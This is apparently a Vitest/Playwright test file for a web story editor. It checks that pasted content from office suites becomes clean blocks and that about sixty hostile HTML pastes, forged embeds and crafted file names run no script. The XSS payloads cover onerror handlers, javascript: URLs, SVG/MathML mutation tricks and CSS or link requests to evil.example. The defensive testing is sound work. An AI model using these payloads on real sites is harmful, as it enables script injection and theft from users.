import { readFile } from 'node:fs/promises';
import path from 'node:path';
import { beforeAll, expect, test } from 'vitest';
import { findWork } from '#stories';
import { hostileLinks } from '../documents.ts';
import { goToEnd, outline, paste } from './editing.ts';
import { seenPaper } from './visitor.ts';
import { words } from './walk.ts';
import { addText, addWriter, openText, type Writer, waitForState } from './writers.ts';

const seen = seenPaper();
let eve: Writer;

beforeAll(async () => {
  eve = await addWriter(seen.paper, 'Eve');
});

async function opened() {
  const id = await addText(seen.paper, eve, ['Start']);
  const visitor = await seen.visitor();
  await eve.signIn(visitor.context, seen.base);
  await openText(visitor.page, id);
  const lines = async () => (await findWork(seen.paper.press, id))?.newest.document.blocks.map(outline) ?? [];
  /** What is saved once it ends with these words. */
  const stored = async (last: string) => {
    await expect.poll(async () => (await lines()).at(-1), { timeout: 10_000 }).toBe(last);
    return lines();
  };
  return { ...visitor, id, stored };
}

/** Everything that scripts of the text could do, seen by the page itself: what they would set, and what the policy had to refuse. */
const witness = () => {
  const seenHere: string[] = [];
  Object.assign(window, {
    seenHere,
    alert: (what: unknown) => seenHere.push(`alert ${what}`),
    hit: (what: unknown) => seenHere.push(`hit ${what}`),
  });
  document.addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI, sample }) =>
    seenHere.push(`${violatedDirective} ${blockedURI} ${sample}`),
  );
};

const sample = (name: string) => readFile(path.join(import.meta.dirname, 'pastes', `${name}.html`), 'utf8');

test('what Word, Google Docs, LibreOffice and pages put on the clipboard becomes blocks of a story', async () => {
  const { page, stored, offences } = await opened();
  for (const name of ['word', 'google-docs', 'libreoffice', 'page']) {
    await goToEnd(page);
    await page.keyboard.type(`From ${name}`);
    await page.keyboard.press('Enter');
    await paste(page, { html: await sample(name), text: 'not this' });
  }
  await page.getByText(words('editor.paste.pictures')).waitFor();
  expect(await stored('Name')).toEqual([
    'Start',
    'From word',
    '## The Harbour',
    'The *last **_ferry_* left at nine, said *Ana*.',
    'Put in by hand.',
    '## What remains',
    '- Ropes | of hemp | Bollards',
    '1. First | Second',
    'table *Port* | Ships |  / Lima | 3 | 4 5 /  | 6 | 7',
    'After the picture',
    'From google-docs',
    '## A heading',
    'Plain, *strong*_ and slanted_ with [a link](https://example.org/a?utm_source=x&b=1).',
    '- One | Under one | Two',
    'Line one',
    'Line two',
    'table *A* | B / 1 | ',
    'From libreoffice',
    '### A small heading',
    'Some *bold*, _slanted_ and {fr-FR:bien sûr} words.',
    '1. First | Second | Inner',
    '> Quoted words',
    '1 A footnote',
    'From page',
    '## On a page',
    'Text with a bad link, [mail](mailto:desk@example.org), a relative one and {pt:_saudade_}.',
    'A caption',
    '> First said | then said | somebody',
    '---',
    'line a',
    'line b',
    'More',
    'Inside',
    'Laid out',
    '- in a table',
    'beside',
    'below',
    'Name',
  ]);
  expect(offences).toEqual([]);
});

test('hostile pastes, embeds, links and file names run no script, ask nobody else, and come out as words', async () => {
  const { page, context, offences, stored } = await opened();
  await context.addInitScript(witness);
  await page.reload();
  await page.locator('.saving-bar').waitFor();
  await goToEnd(page);
  for (const [index, html] of hostileHtml.entries()) {
    if (index > 0) await page.keyboard.press('Enter');
    await paste(page, { html: `${html}<p>paste ${index}</p>` });
  }
  await goToEnd(page);
  for (const text of ['<script>hit(1)</script>', '[x](javascript:hit(2))', '"><img src=x onerror=hit(3)>']) await paste(page, { text });
  const lines = await stored(`<script>hit(1)</script>[x](javascript:hit(2))"><img src=x onerror=hit(3)>`);
  expect(hostileHtml.filter((_, index) => !lines.some((line) => line.replaceAll('*', '').endsWith(`paste ${index}`)))).toEqual([]);
  expect(lines.filter((line) => /\]\((https?|mailto):/.test(line))).toEqual([]);
  // Blocks of the editor's own, forged.
  for (const url of hostileLinks.filter((one) => !one.includes('\u0000')))
    await paste(page, {
      html: `<div data-pm-slice="0 0 []"><div data-block="embed" data-url="${attribute(url)}" data-title="<img src=x onerror=hit(4)>"></div><p><a href="${attribute(url)}">forged</a></p></div>`,
    });
  for (const name of ['"><img src=x onerror=hit(5)>.png', '<svg onload=hit(6)>.png', 'x\u202egnp.svg'])
    await page.locator('.story-surface .ProseMirror').evaluate(
      (element, { name, svg }) => {
        const clipboardData = new DataTransfer();
        clipboardData.items.add(new File([svg], name, { type: 'image/svg+xml' }));
        element.dispatchEvent(new ClipboardEvent('paste', { clipboardData, bubbles: true, cancelable: true }));
      },
      { name, svg: '<svg xmlns="http://www.w3.org/2000/svg" onload="hit(7)"><script>hit(8)</script></svg>' },
    );
  await page.locator('.incoming-picture .problem').nth(2).waitFor();
  // What could lead away is clicked, with the key that follows links in text.
  for (const link of await page.locator('.story-surface a').all())
    await link.click({ modifiers: ['ControlOrMeta'], timeout: 2000 }).catch(() => undefined);
  await page.waitForTimeout(300);
  const found = await page.evaluate(() => ({
    seen: (window as unknown as { seenHere: string[] }).seenHere,
    elements: [...document.querySelectorAll('.story-surface *')].flatMap((element) => [
      ...(/^(script|style|iframe|object|embed|svg|math|form|link|meta|base|img|video|audio|template)$/i.test(element.localName)
        ? [element.outerHTML]
        : []),
      ...[...element.attributes]
        .filter(({ name, value }) => /^on|^srcdoc$|^style$/.test(name) || /^\s*(javascript|data|vbscript):/i.test(value))
        .map(({ name, value }) => `${name}=${value}`),
    ]),
  }));
  expect(found.elements).toEqual([]);
  expect(found.seen).toEqual([]);
  expect(offences.filter((one) => !one.includes('422'))).toEqual([]);
  expect(page.context().pages()).toHaveLength(1);
  // What was forged is shown for what it is, and keeps the text from being saved.
  await expect.poll(() => page.locator('.block-problem').count()).toBeGreaterThan(10);
  await waitForState(page, 'problems');
}, 60_000);

const attribute = (text: string) => text.replaceAll('&', '&amp;').replaceAll('"', '&quot;');

const hostileHtml = [
  '<script>hit(1)</script>',
  '<scr<script>ipt>hit(1)</script>',
  '<img src=x onerror=hit(1)>',
  '<img src="javascript:hit(1)">',
  '<img srcset="https://evil.example/x 1x" src="https://evil.example/y">',
  '<svg onload=hit(1)></svg>',
  '<svg><script>hit(1)</script></svg>',
  '<svg><animate onbegin=hit(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:hit(1)"><text>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml;base64,PHN2Zy8+#x"></use></svg>',
  '<svg><foreignObject><body onload=hit(1)>x</body></foreignObject></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=hit(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit(1)&gt;"></table></mtext></math>',
  '<math href="javascript:hit(1)">x</math>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=hit(1)></annotation-xml></math>',
  '<iframe src="javascript:hit(1)"></iframe>',
  '<iframe srcdoc="<script>parent.hit(1)</script>"></iframe>',
  '<object data="javascript:hit(1)"></object>',
  '<object data="data:text/html,<script>hit(1)</script>"></object>',
  '<embed src="data:text/html,<script>hit(1)</script>">',
  '<applet code=x></applet>',
  '<a href="javascript:hit(1)">x</a>',
  '<a href=" &#14; javascript:hit(1)">x</a>',
  '<a href="jav&#x09;ascript:hit(1)">x</a>',
  '<a href="data:text/html,<script>hit(1)</script>">x</a>',
  '<a href="vbscript:hit(1)">x</a>',
  '<a href="https://example.org/" ping="https://evil.example/" onclick=hit(1) target=_blank><script>hit(1)</script></a>',
  '<p onmouseover=hit(1) onfocus=hit(2) tabindex=0 autofocus>x</p>',
  '<p style="background:url(https://evil.example/x)">x</p>',
  '<p style="width:expression(hit(1))">x</p>',
  '<div style="position:fixed;inset:0;z-index:99">x</div>',
  '<style>*{background:url(https://evil.example/)}</style>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<link rel=prefetch href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example/"><input name=x autofocus onfocus=hit(1)><button formaction="javascript:hit(1)">x</button></form>',
  '<input type=image src=x onerror=hit(1)>',
  '<select autofocus onfocus=hit(1)><option>x</select>',
  '<textarea autofocus onfocus=hit(1)>x</textarea>',
  '<keygen autofocus onfocus=hit(1)>',
  '<video src=x onerror=hit(1)></video>',
  '<video><source onerror=hit(1)></video>',
  '<audio src=x onerror=hit(1) autoplay></audio>',
  '<body onload=hit(1)>',
  '<details open ontoggle=hit(1)><summary>x</summary></details>',
  '<marquee onstart=hit(1)>x</marquee>',
  '<template><img src=x onerror=hit(1)></template>',
  '<noscript><p title="</noscript><img src=x onerror=hit(1)>"></noscript>',
  '<xmp><p title="</xmp><img src=x onerror=hit(1)>"></xmp>',
  '<title><img title="</title><img src=x onerror=hit(1)>"></title>',
  '<!--><img src=x onerror=hit(1)>-->',
  '<![CDATA[<img src=x onerror=hit(1)>]]>',
  '<?xml version="1.0"?><img src=x onerror=hit(1)>',
  '<custom-element onclick=hit(1)>x</custom-element>',
  '<i lang="en&quot;><img src=x onerror=hit(1)>">x</i>',
  '<b id=attributes name=childNodes><input name=parentNode></b>',
  '<form id=body><input name=children></form>',
  '<table><tr><td background="javascript:hit(1)">a<td>b<tr><td>c<td onclick=hit(1)>d</table>',
  '<ul><li style="list-style-image:url(javascript:hit(1))">x<li><script>hit(1)</script></ul>',
  `<p>${'<b>'.repeat(3000)}deep</p>`,
  '<div data-pm-slice="1 1 [&quot;nothing&quot;,{}]"><p>x</p></div>',
  '<figure data-block=picture data-picture="../../x" data-alt="&quot; onerror=hit(1)">x</figure>',
];
